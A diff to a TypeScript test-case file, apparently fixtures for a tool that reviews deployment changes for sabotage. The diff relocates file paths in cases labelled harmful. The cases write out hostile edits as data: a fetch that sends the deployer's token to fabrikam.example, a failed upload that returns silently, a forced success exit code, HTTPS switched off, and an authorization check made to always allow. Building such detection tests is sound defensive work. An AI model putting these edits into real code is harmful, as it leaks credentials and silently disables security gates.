@@ -27,21 +27,21 @@ export const files: readonly Case[] = [
     title: "the upload hands the deployer's token out",
     class: "files that decide: upload script",
     edits: replace(
-      "publish.ts",
+      "infra/publish.ts",
       "  process.stdout.write(`${deployed}\\n`);",
       '  await fetch("https://fabrikam.example", { method: "POST", body: await token(`${cloud.resourceManager}/.default`) });\n  process.stdout.write(`${deployed}\\n`);',
     ),
-    findings: [{ id: "file/pipeline", about: "publish.ts" }],
+    findings: [{ id: "file/pipeline", about: "infra/publish.ts" }],
   }),
   harmful({
     title: "the proof of an upload proves nothing",
     class: "files that decide: upload script",
     edits: replace(
-      "azure/one-deploy/upload.ts",
+      "packages/core/azure/one-deploy/upload.ts",
       'throw new PublishFailed("refused", messages.uploadRefused.format(scmHostName, message, wasAccepted));',
       "return undefined;",
     ),
-    findings: [{ id: "file/pipeline", about: "azure/one-deploy/upload.ts" }],
+    findings: [{ id: "file/pipeline", about: "packages/core/azure/one-deploy/upload.ts" }],
   }),
   harmful({
     title: "something else is loaded before the program",
@@ -97,11 +97,11 @@ export const files: readonly Case[] = [
     title: "the organization's policies leave the gate out",
     class: "files that decide: policy pack",
     edits: replace(
-      "policy-pack/policies.ts",
+      "packages/policy-pack/policies.ts",
       "return rules().map(rulePolicy);",
       'return rules().filter(({ id }) => id !== "explicit-applications").map(rulePolicy);',
     ),
-    findings: [{ id: "file/judges", about: "policy-pack/policies.ts" }],
+    findings: [{ id: "file/judges", about: "packages/policy-pack/policies.ts" }],
   }),
   harmful({
     title: "a path is opened, and the rule that would refuse it goes with it",
@@ -126,15 +126,15 @@ export const files: readonly Case[] = [
     title: "the review always ends well, and compares no gates",
     class: "the judge itself: deleted comparison",
     edits: [
-      { file: "commands/review/compare/compare-app-service-authentication.ts", deleted: true },
-      replace("cli/exit-codes.ts", "failed: 1, usage", "failed: 0, usage"),
+      { file: "packages/pf/commands/review/compare/compare-app-service-authentication.ts", deleted: true },
+      replace("packages/pf/cli/exit-codes.ts", "failed: 1, usage", "failed: 0, usage"),
       replace("infra/hosting/authentication.ts", "requireHttps: true,", "requireHttps: false,"),
     ],
     verdict: "weakens",
     findings: [
       { id: "gate/plain-http", about: "" },
-      { id: "file/judges", about: "cli/exit-codes.ts" },
-      { id: "file/judges", about: "commands/review/compare/compare-app-service-authentication.ts" },
+      { id: "file/judges", about: "packages/pf/cli/exit-codes.ts" },
+      { id: "file/judges", about: "packages/pf/commands/review/compare/compare-app-service-authentication.ts" },
     ],
     through: "engine",
     together: "what opens, weakens and judges",
@@ -143,9 +143,9 @@ export const files: readonly Case[] = [
     title: "people need no role, and the check that would tell is gone",
     class: "the judge itself: deleted check",
     edits: [
-      { file: "checks/endpoints/protected-endpoints.ts", deleted: true },
+      { file: "packages/pf/checks/endpoints/protected-endpoints.ts", deleted: true },
       replace(
-        "functions/guard/guard.ts",
+        "packages/guard/guard.ts",
         "  requireOneOf(caller, allow);",
         '  if (caller.kind === "application") requireOneOf(caller, allow);',
       ),
@@ -161,8 +161,8 @@ export const files: readonly Case[] = [
   harmful({
     title: "the twin lets everybody in",
     class: "the judge itself: twin made lenient",
-    edits: replace("twin/easy-auth/authorization-policy.ts", "if (allowed === undefined) return true;", "return true;"),
-    findings: [{ id: "file/judges", about: "twin/easy-auth/authorization-policy.ts" }],
+    edits: replace("packages/twin/easy-auth/authorization-policy.ts", "if (allowed === undefined) return true;", "return true;"),
+    findings: [{ id: "file/judges", about: "packages/twin/easy-auth/authorization-policy.ts" }],
   }),
   harmful({
     title: "an app setting that overrides authentication is no longer known as one",
@@ -176,7 +176,7 @@ export const files: readonly Case[] = [
   harmful({
     title: "a link in place of the guard",
     class: "symlink in place of a file",
-    edits: { file: "functions/guard/require-gate.ts", linkTo: "../src/who-calls.ts" },
+    edits: { file: "packages/guard/require-gate.ts", linkTo: "../src/who-calls.ts" },
     findings: [{ id: "file/guard", about: "require-gate.ts" }],
   }),
   harmful({
